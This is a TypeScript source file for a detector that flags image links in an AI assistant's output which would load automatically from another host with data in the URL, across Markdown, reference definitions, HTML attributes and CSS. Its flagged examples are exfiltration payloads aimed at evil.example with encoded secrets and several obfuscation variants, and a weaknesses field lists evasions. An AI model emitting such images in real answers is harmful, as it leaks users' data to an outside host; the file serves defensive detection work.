import type { Detector, Range } from "../contracts/detection.ts";
import { mergeRanges, scanFromAnchor } from "../foundation/scan.ts";
import { attributeBefore } from "./attribute-before.ts";
import { isInTag } from "./open-tag.ts";
import { URL_DATA_PATTERNS, carriesData } from "./url-data.ts";

/** An image's opening is looked for this far before its URL; further away it is taken for granted. */
const LOOK_BACK_CHARS = 100;

const INLINE = /\]\(\s{0,8}<?/y;
const REFERENCE = /\]:\s{0,8}<?/y;
const VALUE = /(?<=(?:src|set|poster|background|data|href)\s{0,8})=\s{0,8}["'`]?\s{0,8}/iy;
/** What loads by itself in every tag that knows it. */
const LOADING_NAMES = new Set(["src", "srcset", "imagesrcset", "poster", "background", "lowsrc", "data"]);
const STYLE = /(?<=(url\s{0,3}))\(\s{0,8}["']?/iy;
const URL_RUN = /[^\s"'`<>)\\]*\)?/y;
const LOADING_TAG =
  /<(?:img|image|picture|source|video|audio|track|input|embed|object|iframe|body|table|td|th|tr|div|span|p|style|svg|use|link|feimage|[a-z]{1,8}:[a-z]{1,8})(?![A-Za-z])/iy;
/** A link of these tags loads by itself; that of others needs a click. */
const LINKING_TAG = /<(?:[a-z]{1,8}:)?(?:link|image|use|feimage)(?![A-Za-z])/iy;

/** Images that send data to another host the moment an answer is shown: Markdown, reference definitions, HTML, CSS. */
export const markdownExfiltration: Detector = {
  id: "output.markdown-exfiltration",
  type: "MARKDOWN_EXFILTRATION",
  description: "Images that load by themselves from another host, with room for data in their URL.",
  reference:
    "OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05; CommonMark 0.31.2 sections 4.7 and 6.4",
  reach: 232, // 100 of the opening; 18 of the separators and a name of 19, and 120 of the URL
  sources: ["output"],
  weaknesses:
    "Any image of another host with a query or a long path is found, harmless ones as well, and any reference definition of that kind, even if only a link uses it. Not found: links that need a click, names in style sheets written with escapes, and data hidden in short paths, one request for each character.",
  detect: (text, from) =>
    mergeRanges(
      scanFromAnchor("](", INLINE, text, from, { judge: inlineImage, grow: URL_RUN }),
      scanFromAnchor("]:", REFERENCE, text, from, { judge: reference, grow: URL_RUN }),
      scanFromAnchor("=", VALUE, text, from, { judge: attribute, grow: URL_RUN }),
      scanFromAnchor("(", STYLE, text, from, { judge: style, grow: URL_RUN }),
    ),
  patterns: [INLINE, REFERENCE, VALUE, STYLE, URL_RUN, LOADING_TAG, LINKING_TAG, ...URL_DATA_PATTERNS],
  exampleContext: { source: "output", origin: "assistant", systemTexts: [] },
  examples: {
    flagged: [
      "![](https://evil.example/c?d=c2VjcmV0)",
      "Here: ![logo](<https://evil.example/p.png?q=secret>)",
      "![a [b] c](https://evil.example/?q=1)",
      "![x](//evil.example/x?y)",
      "![x](https://evil.example/c2VjcmV0IGtleSBvZiB0aGUgdXNlciBpcyAxMjM0)",
      "![x](https://c2VjcmV0IGtleSBvZiB0aGUgdXNlciBpcyAx.evil.example/a.png)",
      `![${"long ".repeat(40)}](https://evil.example/?q=1)`,
      "![x][r]\n\n[r]: https://evil.example/a?b=c",
      "<img alt='' src=\"https://evil.example/a?b=c\">",
      '<div style="background:url(https://evil.example/?k=v)">',
      '<div style="background:URL( //evil.example/?k=v )">',
      "<img alt='<' src=https://evil.example/?k=v>",
      "<img src='https:\\\\evil.example/?k=v'>",
      '<img src="/\t/evil.example/?k=v">',
      "![x](&#104;ttps&colon;&sol;/evil.example/&quest;k=v)",
      "<svg><image xlink:href=//evil.example/?k=v>",
      "<video/poster=//evil.example/?k=v>",
    ],
    clean: [
      "![logo](https://example.com/logo.png)",
      "![chart](./chart.png?v=2)",
      "[a link](https://example.com/search?q=cats)",
      "![ok](https://example.com/a.png) and [a link](https://example.com/?q=1)",
      "[1]: https://example.com/docs",
      "array[i](x) or f(a)[0]: done",
      '<img src="/local.png?v=1">',
      '<script src="https://cdn.example.com/lib.js?v=3"></script>',
      "src = https://example.com/a",
      '<a href="https://example.com/search?q=cats">cats</a>',
      "fetch(url (https://example.com/?q=1))",
    ],
  },
};

function inlineImage(match: RegExpExecArray, text: string): Range | undefined {
  const end = match.index + match[0].length;
  if (!carriesData(text, end)) return undefined;
  const opening = openingBracket(text, match.index);
  if (opening === undefined) return { start: match.index, end };
  return text.charAt(opening - 1) === "!" ? { start: opening - 1, end } : undefined;
}

/** The bracket that the one at `closing` closes; undefined where it is further away than the look back. */
function openingBracket(text: string, closing: number): number | undefined {
  let depth = 0;
  for (let at = closing - 1; at >= Math.max(0, closing - LOOK_BACK_CHARS); at -= 1) {
    const character = text.charAt(at);
    if (character === "]") depth += 1;
    else if (character === "[") {
      if (depth === 0) return at;
      depth -= 1;
    }
  }
  return undefined;
}

function reference(match: RegExpExecArray, text: string): Range | undefined {
  const end = match.index + match[0].length;
  return carriesData(text, end) ? { start: match.index, end, score: 0.7 } : undefined;
}

function attribute(match: RegExpExecArray, text: string): Range | undefined {
  const written = attributeBefore(text, match.index);
  if (written === undefined) return undefined;
  const { name, start } = written;
  const isLink = name === "href";
  if (!isLink && !LOADING_NAMES.has(name)) return undefined;
  const end = match.index + match[0].length;
  if (!carriesData(text, end, /["'`]/.test(match[0]))) return undefined;
  const isLoading = isLink ? isInTag(LINKING_TAG, text, lookBack(start), start) : loads(text, start);
  return isLoading ? { start, end } : undefined;
}

function style(match: RegExpExecArray, text: string): Range | undefined {
  const start = match.index - (match[1]?.length ?? 0);
  const end = match.index + match[0].length;
  return carriesData(text, end) && loads(text, start) ? { start, end } : undefined;
}

function lookBack(start: number): number {
  return Math.max(0, start - LOOK_BACK_CHARS);
}

/** Something loads inside a tag that loads by itself, and where its tag opened too far back to be seen. */
function loads(text: string, start: number): boolean {
  if (isInTag(LOADING_TAG, text, lookBack(start), start)) return true;
  const before = text.slice(lookBack(start), start);
  const opened = before.lastIndexOf("<");
  if (opened < 0) return start > LOOK_BACK_CHARS && !before.includes(">");
  LOADING_TAG.lastIndex = opened; // what stands in a style element stands in no tag
  return LOADING_TAG.test(before);
}
